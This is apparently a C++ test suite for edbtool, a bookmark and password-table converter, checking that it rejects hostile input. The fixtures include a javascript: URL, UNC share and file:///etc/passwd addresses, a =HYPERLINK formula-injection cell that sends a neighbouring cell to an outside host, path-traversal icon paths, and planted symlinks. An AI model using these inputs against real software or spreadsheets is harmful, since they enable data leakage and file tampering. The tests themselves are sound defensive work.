// Bookmark files and tables made by someone else: addresses the program would refuse,
// cells a spreadsheet would run, icon paths that climb out of the run directory, and
// links planted where edbtool writes.

#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>

#include "accounts_csv.h"
#include "bookmarks_fixture.h"
#include "bookmarks_html.h"
#include "site_icon.h"

namespace bookmarks_test {
namespace {

std::string OneList(const std::vector<std::string>& hrefs) {
  std::string html = "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n";
  for (std::size_t i = 0; i < hrefs.size(); ++i)
    html += "<DT><A HREF=\"" + hrefs[i] + "\">link " + std::to_string(i) + "</A>\n";
  return html + "</DL><p>\n";
}

bool Has(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

TEST_F(BookmarksTest, ImportSkipsEveryAddressTheProgramRefusesAndCountsThemByReason) {
  const std::string table = MakeTable("run");
  Spit(F("hostile.html"), OneList({
                              "https://fine.example/",
                              "--help",
                              " -x",  // a blank in front is trimmed, then read as an option
                              "java&#9;script:alert(1)",
                              "https://a.example/&#10;x",
                              "https://b.example/\tpath",
                              R"(\\host\share\setup.exe)",
                              "//host/share/setup.exe",
                              "smb://host/share",
                              "file://host/share/x.exe",
                              "file:///etc/passwd",
                              R"(C:\Windows\System32\calc.exe)",
                          }));
  Result r = Run({"import-bookmarks", table, F("hostile.html")});
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(Has(r.out, "imported 1 favorite ")) << r.out;
  EXPECT_TRUE(Has(r.out, "skipped 2: address the program refuses to open: address starts with '-'")) << r.out;
  EXPECT_TRUE(Has(r.out, "skipped 3: address the program refuses to open: control character in the address"))
      << r.out;
  EXPECT_TRUE(Has(r.out, "skipped 4: address the program refuses to open: network share")) << r.out;
  EXPECT_TRUE(Has(r.out, "skipped 2: not a web address")) << r.out;
  std::vector<std::string> stored;
  for (const Favorite& f : Read(table)) stored.push_back(f.address);
  EXPECT_EQ(stored, (std::vector<std::string>{"https://fine.example/"}));

  // --keep-local takes the local ones too; refused addresses stay refused.
  const std::string other = MakeTable("other");
  r = Run({"import-bookmarks", other, F("hostile.html"), "--keep-local"});
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(Has(r.out, "imported 3 favorites")) << r.out;
  EXPECT_TRUE(Has(r.out, "2 of them not web addresses: the program asks before it opens those")) << r.out;
  EXPECT_FALSE(Has(r.out, "not a web address\n")) << r.out;
  stored.clear();
  for (const Favorite& f : Read(other)) stored.push_back(f.address);
  EXPECT_EQ(stored, (std::vector<std::string>{"https://fine.example/", "file:///etc/passwd",
                                              R"(C:\Windows\System32\calc.exe)"}));
}

TEST_F(BookmarksTest, DryRunCountsRefusedAddressesTheSameWay) {
  const std::string table = MakeTable("run");
  Spit(F("hostile.html"), OneList({"-x", "https://ok.example/"}));
  const std::string before = Slurp(table);
  Result r = Run({"import-bookmarks", table, F("hostile.html"), "--dry-run"});
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(Has(r.out, "would import 1 favorite ")) << r.out;
  EXPECT_TRUE(Has(r.out, "skipped 1: address the program refuses to open: address starts with '-'")) << r.out;
  EXPECT_EQ(Slurp(table), before);
}

TEST(EntityDecoding, ReferencesEndWithinTwelveBytesAndAmpersandRunsStayText) {
  EXPECT_EQ(edbtool::DecodeEntities("a&amp;b&#x10FFFF;&#x0010FFFF;"),
            "a&b\xF4\x8F\xBF\xBF\xF4\x8F\xBF\xBF");
  EXPECT_EQ(edbtool::DecodeEntities("&&&amp;&#9;&"), "&&&\t&");
  EXPECT_EQ(edbtool::DecodeEntities("&#x00000010FFFF;"), "&#x00000010FFFF;");  // too long to be one
  EXPECT_EQ(edbtool::DecodeEntities("&lt"), "&lt");
  const std::string many(100000, '&');
  EXPECT_EQ(edbtool::DecodeEntities(many + "&lt;"), many + "<");
}

TEST(IconNames, ManySitesOnOneHostTakeTheNextFreeNameEachTime) {
  edbtool::IconNames names{{"example.com-3.png"}, {}};
  std::vector<std::string> got;
  for (int i = 0; i < 5; ++i) got.push_back(edbtool::IconFileName("https://example.com/" + std::to_string(i), ".png", 50, &names));
  EXPECT_EQ(got, (std::vector<std::string>{"example.com.png", "example.com-2.png", "example.com-4.png",
                                           "example.com-5.png", "example.com-6.png"}));
  // Another extension or a tighter room is a name of another shape: it starts afresh.
  EXPECT_EQ(edbtool::IconFileName("https://example.com/", ".gif", 50, &names), "example.com.gif");
  EXPECT_EQ(edbtool::IconFileName("https://example.com/", ".png", 12, &names), "example.png");
  EXPECT_EQ(edbtool::IconFileName("https://example.com/", ".png", 12, &names), "exampl-2.png");
  EXPECT_EQ(names.taken.size(), 9u);
}

TEST_F(BookmarksTest, AccountCellsThatStartLikeFormulasAreWrittenAsText) {
  const std::string table = MakeTable("run");
  Fill(table, {{R"(=HYPERLINK("http://x/?"&B2,"a"))", "", "https://a.example/", "@me", "-secret", 0, "", 0, "+1"},
               {"plain", "", "https://b.example/", "user", "p=w", 1, "", 0, "\tnote"},
               {"cr", "", "https://c.example/", "\rme", "pw", 9, "", 0, "a-b"}});
  Result r = Run({"export-accounts", table, F("accounts.csv")});
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_EQ(Slurp(F("accounts.csv")),
            "\"Group\",\"Title\",\"Username\",\"Password\",\"URL\",\"Notes\"\r\n"
            "\"学习\",\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"a\"\")\",\"'@me\",\"'-secret\",\"https://a.example/\",\"'+1\"\r\n"
            "\"论坛\",\"plain\",\"user\",\"p=w\",\"https://b.example/\",\"'\tnote\"\r\n"
            "\"\",\"cr\",\"'\rme\",\"pw\",\"https://c.example/\",\"a-b\"\r\n");
  EXPECT_TRUE(Has(r.err, "Title of entry 1, Username of entry 1, Password of entry 1, Notes of entry 1, "
                         "Notes of entry 2, Username of entry 3\n"))
      << r.err;
  EXPECT_TRUE(Has(r.err, "a password manager keeps the '")) << r.err;
}

TEST_F(BookmarksTest, ExportEmbedsNoIconFromOutsideTheRunDirectory) {
  const std::string table = MakeTable("run");
  const std::string secret = std::string(reinterpret_cast<const char*>(Png(16, 9).data()), Png(16, 9).size());
  Spit(F("secret.png"), secret);  // beside the run directory
  fs::create_directories(F("run2"));
  Spit(F("run2/secret.png"), secret);  // "run" + "2\secret.png"
  fs::create_directories(F("run/网站图标"));
  Spit(F("run/网站图标/own.png"), std::string(reinterpret_cast<const char*>(Png(16, 1).data()), Png(16, 1).size()));
  Fill(table, {{"own", R"(\网站图标\own.png)", "https://own.example/", "", "", 0, "", 0, ""},
               {"up", R"(\..\secret.png)", "https://up.example/", "", "", 0, "", 0, ""},
               {"up2", R"(\网站图标\..\..\secret.png)", "https://up2.example/", "", "", 0, "", 0, ""},
               {"slash", "/../secret.png", "https://slash.example/", "", "", 0, "", 0, ""},
               {"beside", R"(2\secret.png)", "https://beside.example/", "", "", 0, "", 0, ""},
               {"drive", R"(C:\secret.png)", "https://drive.example/", "", "", 0, "", 0, ""},
               {"none", "", "https://none.example/", "", "", 0, "", 0, ""}});
  Result r = Run({"export-bookmarks", table, F("out.html")});
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(Has(r.out, "exported 7 favorites (0 common, 1 with icons)")) << r.out;
  EXPECT_TRUE(Has(r.out, "5 favorites' icon paths leave the program's folder: exported without an icon")) << r.out;
  const std::string html = Slurp(F("out.html"));
  std::size_t icons = 0;
  for (std::size_t at = html.find(" ICON=\""); at != std::string::npos; at = html.find(" ICON=\"", at + 1)) ++icons;
  EXPECT_EQ(icons, 1u);
  EXPECT_TRUE(Has(html, "<A HREF=\"https://own.example/\" ICON=\"data:image/png;base64,")) << html;
}

TEST_F(BookmarksTest, ExportReplacesALinkAtTheTargetAndLeavesItsTargetAlone) {
  const std::string table = MakeTable("run");
  Fill(table, {{"a", "", "https://a.example/", "u", "p", 0, "", 1, ""}});
  Spit(F("victim"), "precious");
  for (const char* command : {"export-bookmarks", "export-accounts"}) {
    fs::remove(F("target"));
    fs::create_symlink(F("victim"), F("target"));
    Result r = Run({command, table, F("target")});
    ASSERT_EQ(r.code, 0) << command << ": " << r.err;
    EXPECT_EQ(Slurp(F("victim")), "precious") << command;
    EXPECT_FALSE(fs::is_symlink(F("target"))) << command;
    EXPECT_TRUE(Has(Slurp(F("target")), "a.example")) << command;
  }
  // Nothing of the writes is left beside the target.
  std::vector<std::string> names;
  for (const auto& e : fs::directory_iterator(dir_)) names.push_back(e.path().filename().string());
  std::sort(names.begin(), names.end());
  EXPECT_EQ(names, (std::vector<std::string>{"err", "out", "run", "target", "victim"}));
}

TEST_F(BookmarksTest, ExportsAreReadableAsTheUmaskAllowsAndAccountsStayPrivate) {
  const std::string table = MakeTable("run");
  Fill(table, {{"a", "", "https://a.example/", "u", "p", 0, "", 1, ""}});
  struct stat st;
  ASSERT_EQ(Run({"export-bookmarks", table, F("b.html")}, "umask 022;").code, 0);
  ASSERT_EQ(stat(F("b.html").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0644u);
  ASSERT_EQ(Run({"export-bookmarks", table, F("c.html")}, "umask 077;").code, 0);
  ASSERT_EQ(stat(F("c.html").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600u);
  ASSERT_EQ(Run({"export-accounts", table, F("a.csv")}, "umask 000;").code, 0);
  ASSERT_EQ(stat(F("a.csv").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600u);
}

TEST_F(BookmarksTest, ImportReplacesADanglingDefaultIconLinkInsteadOfWritingThroughIt) {
  const std::string table = MakeTable("run");
  fs::create_directories(F("run/网站图标"));
  fs::create_directories(F("elsewhere"));
  fs::create_symlink(F("elsewhere/planted.png"), F("run/网站图标/默认.png"));
  Spit(F("b.html"), OneList({"https://a.example/"}));
  Result r = Run({"import-bookmarks", table, F("b.html")});
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_FALSE(fs::exists(F("elsewhere/planted.png")));
  EXPECT_FALSE(fs::is_symlink(F("run/网站图标/默认.png")));
  EXPECT_FALSE(IconOf(table, "\\网站图标\\默认.png").empty());
}

TEST_F(BookmarksTest, ImportKeepsADefaultIconLinkThatLeadsToAPicture) {
  const std::string table = MakeTable("run");
  fs::create_directories(F("run/网站图标"));
  const Bytes own = Png(16, 5);
  Spit(F("mine.png"), std::string(own.begin(), own.end()));
  fs::create_symlink(F("mine.png"), F("run/网站图标/默认.png"));
  Spit(F("b.html"), OneList({"https://a.example/"}));
  ASSERT_EQ(Run({"import-bookmarks", table, F("b.html")}).code, 0);
  EXPECT_TRUE(fs::is_symlink(F("run/网站图标/默认.png")));
  EXPECT_EQ(Slurp(F("mine.png")), std::string(own.begin(), own.end()));
}

}  // namespace
}  // namespace bookmarks_test
